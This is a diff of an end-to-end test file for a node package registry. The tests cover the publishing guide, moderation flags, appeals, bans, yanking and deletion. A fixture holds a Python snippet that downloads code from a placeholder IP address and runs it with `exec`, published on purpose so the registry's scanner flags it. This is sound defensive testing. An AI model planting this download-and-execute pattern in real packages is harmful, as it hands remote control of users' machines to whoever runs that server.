@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict'
-import { test } from 'node:test'
+import { describe, it } from 'node:test'
 import { moderateVersion } from '@nodeyard/contract/admin'
 import { answerAppeal, listAppeals } from '@nodeyard/contract/appeals'
 import { type Registry, registryAt } from '@nodeyard/contract/client'
@@ -12,12 +12,12 @@ import { buildPack } from '../server/test/pack.ts'
 import { signUp } from './people.ts'
 import { useProduct } from './product.ts'
 
-const it = useProduct()
+const holder = useProduct()
 const downloadsCode = 'import requests\n\n\ndef run():\n    exec(requests.get("http://203.0.113.9/x").text)\n'
 
-/** The registry as an admin with the short-lived token sees it. */
+/** Signs in as an admin with the short-lived token. */
 async function admin(): Promise<Registry> {
-  const { world } = it.product
+  const { world } = holder.product
   const { token } = await signAdminToken(world.deps, toActor(await world.given.user({ is_admin: true })))
   return registryAt('http://registry.test', (input, init) => {
     const headers = new Headers(init?.headers)
@@ -26,7 +26,7 @@ async function admin(): Promise<Registry> {
   })
 }
 
-/** Makes a publisher on its own page, which leads back to the guide. */
+/** Creates a publisher on its own page, which links back to the guide. */
 async function createPublisher(page: Page, id: string): Promise<void> {
   await page.getByRole('link', { name: 'Create a publisher' }).click()
   await page.getByLabel('Publisher id').fill(id)
@@ -34,7 +34,7 @@ async function createPublisher(page: Page, id: string): Promise<void> {
   await page.waitForURL(`**/docs/publish?publisher=${id}#step-3`)
 }
 
-/** Makes a token on the page of the guide, and reads it there. */
+/** Creates a token on the guide's page and reads it there. */
 async function tokenFrom(page: Page): Promise<string> {
   await page.getByRole('button', { name: 'Create a token' }).click()
   const secret = page.locator('code', { hasText: /^nyp_/ })
@@ -43,7 +43,7 @@ async function tokenFrom(page: Page): Promise<string> {
 
 const release = (token: string, version: string, files: Record<string, string> = {}) =>
   publish({
-    ...{ apiUrl: it.product.apiUrl, publisherId: 'ada-nodes', nodeId: 'ada-blur', token, version },
+    ...{ apiUrl: holder.product.apiUrl, publisherId: 'ada-nodes', nodeId: 'ada-blur', token, version },
     node: { name: 'Ada Blur' },
     archive: buildPack({ id: 'ada-blur', version, files }),
   })
@@ -51,205 +51,214 @@ const release = (token: string, version: string, files: Record<string, string> =
 const done = (page: Page, step: string) =>
   page.getByRole('region', { name: step }).getByText('Done', { exact: true })
 
-test('somebody new comes to a published node by the guide; what is flagged is found by file and line, discussed, corrected and listed', async () => {
-  // An id that was just taken is checked once more.
-  const { page } = await it.product.visit({ expectedComplaints: /publishers\/create.* 400 / })
-  await signUp(page, '/docs/publish')
-  await done(page, '1. An account').waitFor()
-  await createPublisher(page, 'ada-nodes')
-  await done(page, '2. A publisher').waitFor()
-  const token = await tokenFrom(page)
-  await done(page, '3. A token').waitFor()
-  await page.getByLabel('Id of your node').fill('ada-blur')
-  await page.getByText('PublisherId = "ada-nodes"').waitFor()
-  await page.getByRole('radio', { name: 'CI without a secret' }).check()
-  await page.getByText('id-token: write').waitFor()
-  await it.product.picture(page, 'how-to-publish')
+describe('the publishing guide', () => {
+  it('leads a new user to a published node, with flagged lines discussed, fixed and listed', async () => {
+    // The id that was just taken is checked again.
+    const { page } = await holder.product.visit({ expectedComplaints: /publishers\/create.* 400 / })
+    await signUp(page, '/docs/publish')
+    await done(page, '1. An account').waitFor()
+    await createPublisher(page, 'ada-nodes')
+    await done(page, '2. A publisher').waitFor()
+    const token = await tokenFrom(page)
+    await done(page, '3. A token').waitFor()
+    await page.getByLabel('Id of your node').fill('ada-blur')
+    await page.getByText('PublisherId = "ada-nodes"').waitFor()
+    await page.getByRole('radio', { name: 'CI without a secret' }).check()
+    await page.getByText('id-token: write').waitFor()
+    await holder.product.picture(page, 'how-to-publish')
 
-  await release(token, '1.0.0', { 'fetch.py': downloadsCode })
-  await page.goto('/nodes/ada-blur/manage/versions/1.0.0')
-  await page.getByRole('status').getByText('begins as soon as there is a free place').waitFor()
-  await it.product.world.runJobs()
-  await page.getByText('something that a moderator has to look at').waitFor()
-  const finding = page.getByRole('listitem').filter({ hasText: 'How to fix it' }).first()
-  await finding.getByRole('link', { name: 'fetch.py:5' }).waitFor()
-  assert.match((await finding.textContent()) ?? '', /exec\(/)
-  await it.product.picture(page, 'flagged-version')
+    await release(token, '1.0.0', { 'fetch.py': downloadsCode })
+    await page.goto('/nodes/ada-blur/manage/versions/1.0.0')
+    await page.getByRole('status').getByText('begins as soon as there is a free place').waitFor()
+    await holder.product.world.runJobs()
+    await page.getByText('something that a moderator has to look at').waitFor()
+    const finding = page.getByRole('listitem').filter({ hasText: 'How to fix it' }).first()
+    await finding.getByRole('link', { name: 'fetch.py:5' }).waitFor()
+    assert.match((await finding.textContent()) ?? '', /exec\(/)
+    await holder.product.picture(page, 'flagged-version')
 
-  await page.getByLabel('Your message to the moderators').fill('It is our own server.')
-  await page.reload()
-  await page.getByText('What you typed before is still here').waitFor()
-  await page.getByRole('button', { name: 'Send' }).click()
-  await page.getByText('Waiting for an answer for').waitFor()
-  const moderators = await admin()
-  const [waiting] = (await moderators.call(listAppeals)).appeals
-  assert.equal(waiting?.lastMessage.text, 'It is our own server.')
-  const params = { nodeId: 'ada-blur', version: '1.0.0' }
-  await moderators.call(answerAppeal, { params, body: { text: 'Ship the code with your node.' } })
-  await page.getByText('Ship the code with your node.').waitFor()
-  await it.product.picture(page, 'appeal')
+    await page.getByLabel('Your message to the moderators').fill('It is our own server.')
+    await page.reload()
+    await page.getByText('What you typed before is still here').waitFor()
+    await page.getByRole('button', { name: 'Send' }).click()
+    await page.getByText('Waiting for an answer for').waitFor()
+    const moderators = await admin()
+    const [waiting] = (await moderators.call(listAppeals)).appeals
+    assert.equal(waiting?.lastMessage.text, 'It is our own server.')
+    const params = { nodeId: 'ada-blur', version: '1.0.0' }
+    await moderators.call(answerAppeal, { params, body: { text: 'Ship the code with your node.' } })
+    await page.getByText('Ship the code with your node.').waitFor()
+    await holder.product.picture(page, 'appeal')
 
-  await release(token, '1.0.1')
-  await page.goto('/nodes/ada-blur/manage/versions/1.0.1')
-  await page.getByText('This page follows by itself').waitFor()
-  await it.product.world.runJobs()
-  await page.getByText('This version is listed and can be installed. It took').waitFor()
-  await moderators.call(moderateVersion, {
-    params,
-    body: { status: 'NodeVersionStatusBanned', status_reason: 'It runs what it downloads.' },
-  })
-  await page.getByRole('link', { name: 'Versions', exact: true }).click()
-  await page.getByRole('link', { name: '1.0.0' }).click()
-  await page.getByText('It runs what it downloads.').waitFor()
-  await page.goto('/docs/publish')
-  await done(page, '5. Watch it being checked').waitFor()
-  const live = page.getByRole('region', { name: '5. Watch it being checked' })
-  await live.getByText('Your pack is live').waitFor()
-  await live.getByText('comfy node install ada-blur').waitFor()
-  await live.getByText('/badges/ada-blur/version.svg').waitFor()
-  await live.getByRole('link', { name: '/nodes/ada-blur' }).click()
-  await page.getByRole('heading', { level: 1, name: 'Ada Blur' }).waitFor()
-})
-
-test('a node is edited, its versions deprecated, yanked and deleted, its installs told, and it is deleted by its name', async () => {
-  const { world } = it.product
-  const { page } = await it.product.visit({ expectedComplaints: /400/ })
-  const email = await signUp(page, '/docs/publish')
-  const owner = await world.deps.db
-    .selectFrom('users')
-    .selectAll()
-    .where('email', '=', email)
-    .executeTakeFirstOrThrow()
-  await world.given.publisher({ id: 'bo-nodes', owner })
-  await world.given.node({
-    id: 'taken',
-    repository_url: 'https://github.com/x/y',
-    repository_key: 'github.com/x/y',
-  })
-  await world.given.node({ id: 'bo-grain', publisher_id: 'bo-nodes', name: 'Bo Grain' })
-  const versions = []
-  for (const version of ['1.0.0', '1.1.0'])
-    versions.push(await world.given.version({ node_id: 'bo-grain', version }))
-  for (const { id } of versions) world.deps.installs.count('bo-grain', id)
-  await world.deps.installs.flush()
-
-  await page.goto('/nodes/bo-grain')
-  await page.getByRole('link', { name: 'Manage' }).click()
-  await page.getByLabel('Description').fill('Grain like film.')
-  await page.getByLabel('Repository').fill('https://github.com/x/y')
-  await page.getByRole('button', { name: 'Save' }).click()
-  await page.getByRole('alert').waitFor()
-  assert.equal(await page.getByLabel('Description').inputValue(), 'Grain like film.')
-  await page.getByLabel('Repository').fill('')
-  await page.getByRole('button', { name: 'Save' }).click()
-  await page.getByText('Saved.').waitFor()
-  await it.product.picture(page, 'node-details')
-
-  await page.goto('/nodes/bo-grain/manage/versions/1.0.0')
-  await page.getByLabel('What people should know').fill('Use 1.1.0.')
-  await page.getByRole('button', { name: 'Deprecate' }).click()
-  await page.getByText('The version is deprecated.').waitFor()
-  await page.getByLabel('The reason, which everybody can read').fill('Crashes.')
-  await page.getByRole('button', { name: 'Yank' }).click()
-  await page.getByRole('button', { name: 'Take the yank back' }).waitFor()
-  await it.product.picture(page, 'version-acts')
-  await page.getByRole('button', { name: 'Delete the version' }).click()
-  await page.getByRole('dialog').getByText('It was installed 1 time').waitFor()
-  await page.getByRole('dialog').getByRole('textbox').fill('1.0.0')
-  await page.getByRole('dialog').getByRole('button', { name: 'Delete the version' }).click()
-  await page.getByText('Its number stays used').waitFor()
-
-  await page.goto('/nodes/bo-grain/manage/statistics')
-  await page.getByText('2 installs').waitFor()
-  await page.getByText('Show every day as a table').click()
-  await it.product.picture(page, 'node-statistics')
-  await page.getByRole('link', { name: 'Delete the node' }).click()
-  await page.getByRole('button', { name: 'Delete the node' }).click()
-  const dialog = page.getByRole('dialog')
-  await dialog.getByText('1 version is deleted with it.').waitFor()
-  await dialog.getByRole('textbox').fill('bo-grain')
-  await it.product.picture(page, 'delete-node')
-  await dialog.getByRole('button', { name: 'Delete the node' }).click()
-  await page.waitForURL('**/nodes')
-})
-
-test('a pack that is held back is seen by its owner alone, and once it was public its page says why it cannot be installed', async () => {
-  const { page } = await it.product.visit({ expectedComplaints: /404|publishers\/create.* 400 / })
-  const { page: stranger } = await it.product.visit({ expectedComplaints: /404/ })
-  await signUp(page, '/docs/publish')
-  await createPublisher(page, 'eve-nodes')
-  await page.goto('/docs/publish')
-  const token = await tokenFrom(page)
-  const send = (version: string, files: Record<string, string> = {}) =>
-    publish({
-      ...{ apiUrl: it.product.apiUrl, publisherId: 'eve-nodes', nodeId: 'eve-blur', token, version },
-      archive: buildPack({ id: 'eve-blur', version, files }),
+    await release(token, '1.0.1')
+    await page.goto('/nodes/ada-blur/manage/versions/1.0.1')
+    await page.getByText('This page follows by itself').waitFor()
+    await holder.product.world.runJobs()
+    await page.getByText('This version is listed and can be installed. It took').waitFor()
+    await moderators.call(moderateVersion, {
+      params,
+      body: { status: 'NodeVersionStatusBanned', status_reason: 'It runs what it downloads.' },
     })
-  const { world } = it.product
-  const offers = async (of: Page) =>
-    /git clone|comfy node install/.test(await of.getByRole('main').innerText())
-
-  await send('1.0.0', { 'fetch.py': downloadsCode })
-  await world.runJobs()
-  await stranger.goto('/nodes/eve-blur')
-  await stranger.getByText('404').waitFor()
-  await page.goto('/nodes/eve-blur')
-  await page.getByText('This node is under review and cannot be installed').waitFor()
-  assert.equal(await offers(page), false)
-
-  await send('1.0.1')
-  await world.runJobs()
-  await stranger.goto('/nodes/eve-blur')
-  await stranger.getByText('comfy node install eve-blur').first().waitFor()
-  await world.deps.db
-    .updateTable('node_versions')
-    .set({ status: 'deleted' })
-    .where('node_id', '=', 'eve-blur')
-    .where('version', '=', '1.0.0')
-    .execute()
-  const yank = await world.deps.db
-    .selectFrom('node_versions')
-    .select('id')
-    .where('node_id', '=', 'eve-blur')
-    .where('version', '=', '1.0.1')
-    .executeTakeFirstOrThrow()
-  await world.anonymous.call(yankVersion, {
-    params: { publisherId: 'eve-nodes', nodeId: 'eve-blur', versionId: yank.id },
-    body: { reason: 'It crashes on small pictures.', personal_access_token: token },
+    await page.getByRole('link', { name: 'Versions', exact: true }).click()
+    await page.getByRole('link', { name: '1.0.0' }).click()
+    await page.getByText('It runs what it downloads.').waitFor()
+    await page.goto('/docs/publish')
+    await done(page, '5. Watch it being checked').waitFor()
+    const live = page.getByRole('region', { name: '5. Watch it being checked' })
+    await live.getByText('Your pack is live').waitFor()
+    await live.getByText('comfy node install ada-blur').waitFor()
+    await live.getByText('/badges/ada-blur/version.svg').waitFor()
+    await live.getByRole('link', { name: '/nodes/ada-blur' }).click()
+    await page.getByRole('heading', { level: 1, name: 'Ada Blur' }).waitFor()
   })
-  await stranger.goto('/nodes/eve-blur')
-  await stranger.getByText('Its publisher has withdrawn every version').waitFor()
-  await stranger.getByText('It crashes on small pictures.').waitFor()
-  assert.equal(await offers(stranger), false)
-  await it.product.picture(stranger, 'withdrawn-node')
-})
 
-test('the guide and the findings are there in Arabic, on a phone, in the dark', async () => {
-  const { world } = it.product
-  const { page } = await it.product.visit({ viewport: { width: 390, height: 844 }, colorScheme: 'dark' })
-  const email = await signUp(page, '/docs/publish')
-  const owner = await world.deps.db
-    .selectFrom('users')
-    .selectAll()
-    .where('email', '=', email)
-    .executeTakeFirstOrThrow()
-  await world.given.publisher({ id: 'cy-nodes', owner })
-  const node = await world.given.node({ id: 'cy-fog', publisher_id: 'cy-nodes', name: 'ضباب' })
-  const version = await world.given.version({ node_id: node.id, status: 'flagged' })
-  const finding = {
-    ...{ rule: 'downloaded-code', severity: 'critical', message: '`exec` runs what comes from the network.' },
-    ...{ file_path: 'fetch.py', line_number: 5, code_snippet: 'exec(requests.get(url).text)' },
-    ...{ why: 'The owner of that address controls the machine.', fix: 'Ship the code with your node.' },
-  }
-  await world.given.analysis({ version_id: version.id, findings: JSON.stringify([finding]) })
-  await page.goto('/ar/nodes/cy-fog/manage/versions/1.0.0')
-  await page.getByText('كيف تصلحه').waitFor()
-  await page.getByLabel('رسالتك إلى المشرفين').fill('هذا خادمنا.')
-  await page.getByRole('button', { name: 'إرسال' }).click()
-  await page.getByText('في انتظار الجواب').waitFor()
-  await it.product.picture(page, 'ar-flagged-version')
-  await page.goto('/ar/docs/publish')
-  await page.getByRole('heading', { name: 'انشر عُقدة' }).waitFor()
-  await page.getByText('cy-nodes').first().waitFor()
-  await it.product.picture(page, 'ar-how-to-publish')
+  it('edits a node, deprecates, yanks and deletes its versions, shows its installs and deletes it by name', async () => {
+    const { world } = holder.product
+    const { page } = await holder.product.visit({ expectedComplaints: /400/ })
+    const email = await signUp(page, '/docs/publish')
+    const owner = await world.deps.db
+      .selectFrom('users')
+      .selectAll()
+      .where('email', '=', email)
+      .executeTakeFirstOrThrow()
+    await world.given.publisher({ id: 'bo-nodes', owner })
+    await world.given.node({
+      id: 'taken',
+      repository_url: 'https://github.com/x/y',
+      repository_key: 'github.com/x/y',
+    })
+    await world.given.node({ id: 'bo-grain', publisher_id: 'bo-nodes', name: 'Bo Grain' })
+    const versions = []
+    for (const version of ['1.0.0', '1.1.0'])
+      versions.push(await world.given.version({ node_id: 'bo-grain', version }))
+    for (const { id } of versions) world.deps.installs.count('bo-grain', id)
+    await world.deps.installs.flush()
+
+    await page.goto('/nodes/bo-grain')
+    await page.getByRole('link', { name: 'Manage' }).click()
+    await page.getByLabel('Description').fill('Grain like film.')
+    await page.getByLabel('Repository').fill('https://github.com/x/y')
+    await page.getByRole('button', { name: 'Save' }).click()
+    await page.getByRole('alert').waitFor()
+    assert.equal(await page.getByLabel('Description').inputValue(), 'Grain like film.')
+    await page.getByLabel('Repository').fill('')
+    await page.getByRole('button', { name: 'Save' }).click()
+    await page.getByText('Saved.').waitFor()
+    await holder.product.picture(page, 'node-details')
+
+    await page.goto('/nodes/bo-grain/manage/versions/1.0.0')
+    await page.getByLabel('What people should know').fill('Use 1.1.0.')
+    await page.getByRole('button', { name: 'Deprecate' }).click()
+    await page.getByText('The version is deprecated.').waitFor()
+    await page.getByLabel('The reason, which everybody can read').fill('Crashes.')
+    await page.getByRole('button', { name: 'Yank' }).click()
+    await page.getByRole('button', { name: 'Take the yank back' }).waitFor()
+    await holder.product.picture(page, 'version-acts')
+    await page.getByRole('button', { name: 'Delete the version' }).click()
+    await page.getByRole('dialog').getByText('It was installed 1 time').waitFor()
+    await page.getByRole('dialog').getByRole('textbox').fill('1.0.0')
+    await page.getByRole('dialog').getByRole('button', { name: 'Delete the version' }).click()
+    await page.getByText('Its number stays used').waitFor()
+
+    await page.goto('/nodes/bo-grain/manage/statistics')
+    await page.getByText('2 installs').waitFor()
+    await page.getByText('Show every day as a table').click()
+    await holder.product.picture(page, 'node-statistics')
+    await page.getByRole('link', { name: 'Delete the node' }).click()
+    await page.getByRole('button', { name: 'Delete the node' }).click()
+    const dialog = page.getByRole('dialog')
+    await dialog.getByText('1 version is deleted with it.').waitFor()
+    await dialog.getByRole('textbox').fill('bo-grain')
+    await holder.product.picture(page, 'delete-node')
+    await dialog.getByRole('button', { name: 'Delete the node' }).click()
+    await page.waitForURL('**/nodes')
+  })
+
+  it('shows a held-back pack to its owner only, and explains why a once public one cannot be installed', async () => {
+    const { page } = await holder.product.visit({ expectedComplaints: /404|publishers\/create.* 400 / })
+    const { page: stranger } = await holder.product.visit({ expectedComplaints: /404/ })
+    await signUp(page, '/docs/publish')
+    await createPublisher(page, 'eve-nodes')
+    await page.goto('/docs/publish')
+    const token = await tokenFrom(page)
+    const send = (version: string, files: Record<string, string> = {}) =>
+      publish({
+        ...{ apiUrl: holder.product.apiUrl, publisherId: 'eve-nodes', nodeId: 'eve-blur', token, version },
+        archive: buildPack({ id: 'eve-blur', version, files }),
+      })
+    const { world } = holder.product
+    const offers = async (of: Page) =>
+      /git clone|comfy node install/.test(await of.getByRole('main').innerText())
+
+    await send('1.0.0', { 'fetch.py': downloadsCode })
+    await world.runJobs()
+    await stranger.goto('/nodes/eve-blur')
+    await stranger.getByText('404').waitFor()
+    await page.goto('/nodes/eve-blur')
+    await page.getByText('This node is under review and cannot be installed').waitFor()
+    assert.equal(await offers(page), false)
+
+    await send('1.0.1')
+    await world.runJobs()
+    await stranger.goto('/nodes/eve-blur')
+    await stranger.getByText('comfy node install eve-blur').first().waitFor()
+    await world.deps.db
+      .updateTable('node_versions')
+      .set({ status: 'deleted' })
+      .where('node_id', '=', 'eve-blur')
+      .where('version', '=', '1.0.0')
+      .execute()
+    const yank = await world.deps.db
+      .selectFrom('node_versions')
+      .select('id')
+      .where('node_id', '=', 'eve-blur')
+      .where('version', '=', '1.0.1')
+      .executeTakeFirstOrThrow()
+    await world.anonymous.call(yankVersion, {
+      params: { publisherId: 'eve-nodes', nodeId: 'eve-blur', versionId: yank.id },
+      body: { reason: 'It crashes on small pictures.', personal_access_token: token },
+    })
+    await stranger.goto('/nodes/eve-blur')
+    await stranger.getByText('Its publisher has withdrawn every version').waitFor()
+    await stranger.getByText('It crashes on small pictures.').waitFor()
+    assert.equal(await offers(stranger), false)
+    await holder.product.picture(stranger, 'withdrawn-node')
+  })
+
+  it('shows guide and findings in Arabic, on a phone, in the dark theme', async () => {
+    const { world } = holder.product
+    const { page } = await holder.product.visit({
+      viewport: { width: 390, height: 844 },
+      colorScheme: 'dark',
+    })
+    const email = await signUp(page, '/docs/publish')
+    const owner = await world.deps.db
+      .selectFrom('users')
+      .selectAll()
+      .where('email', '=', email)
+      .executeTakeFirstOrThrow()
+    await world.given.publisher({ id: 'cy-nodes', owner })
+    const node = await world.given.node({ id: 'cy-fog', publisher_id: 'cy-nodes', name: 'ضباب' })
+    const version = await world.given.version({ node_id: node.id, status: 'flagged' })
+    const finding = {
+      ...{
+        rule: 'downloaded-code',
+        severity: 'critical',
+        message: '`exec` runs what comes from the network.',
+      },
+      ...{ file_path: 'fetch.py', line_number: 5, code_snippet: 'exec(requests.get(url).text)' },
+      ...{ why: 'Whoever controls that address controls the machine.', fix: 'Ship the code with your node.' },
+    }
+    await world.given.analysis({ version_id: version.id, findings: JSON.stringify([finding]) })
+    await page.goto('/ar/nodes/cy-fog/manage/versions/1.0.0')
+    await page.getByText('كيف تصلحه').waitFor()
+    await page.getByLabel('رسالتك إلى المشرفين').fill('هذا خادمنا.')
+    await page.getByRole('button', { name: 'إرسال' }).click()
+    await page.getByText('في انتظار الجواب').waitFor()
+    await holder.product.picture(page, 'ar-flagged-version')
+    await page.goto('/ar/docs/publish')
+    await page.getByRole('heading', { name: 'انشر عُقدة' }).waitFor()
+    await page.getByText('cy-nodes').first().waitFor()
+    await holder.product.picture(page, 'ar-how-to-publish')
+  })
 })
